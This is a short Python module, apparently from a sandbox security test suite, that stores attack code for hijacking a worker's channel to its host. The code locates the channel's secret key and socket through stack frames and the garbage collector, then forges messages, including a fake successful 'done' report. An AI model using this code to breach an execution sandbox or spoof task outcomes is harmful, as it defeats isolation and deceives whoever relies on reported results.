"""Pieces of hostile code that several attacks begin with."""

from __future__ import annotations

__all__ = ["CHANNEL"]

# Finds the worker's own channel to the host, its key, and the number of the cell that runs.
CHANNEL = """
import gc, json, os, socket, sys, threading, time
frame = sys._getframe()
number = None
while frame is not None:
    message = frame.f_locals.get("message")
    if isinstance(message, dict) and message.get("op") == "cell":
        number = message["id"]
    frame = frame.f_back
gc.unfreeze()
channel = next(item for item in gc.get_objects() if type(item).__name__ == "Channel" and any(item.key))
key, sock = channel.key, channel.sock
def packet(body, tag=b"M"):
    sock.send(key + tag + body)
def text(body):
    for begin in range(0, len(body), 61440):
        packet(body[begin:begin + 61440], b"M" if begin + 61440 >= len(body) else b"m")
def tell(**message):
    text(json.dumps(message).encode())
def done(**message):
    tell(event="done", id=number, **{"outcome": "ok", "exit_code": 0, "artifacts": [], "threads": 1, **message})
"""
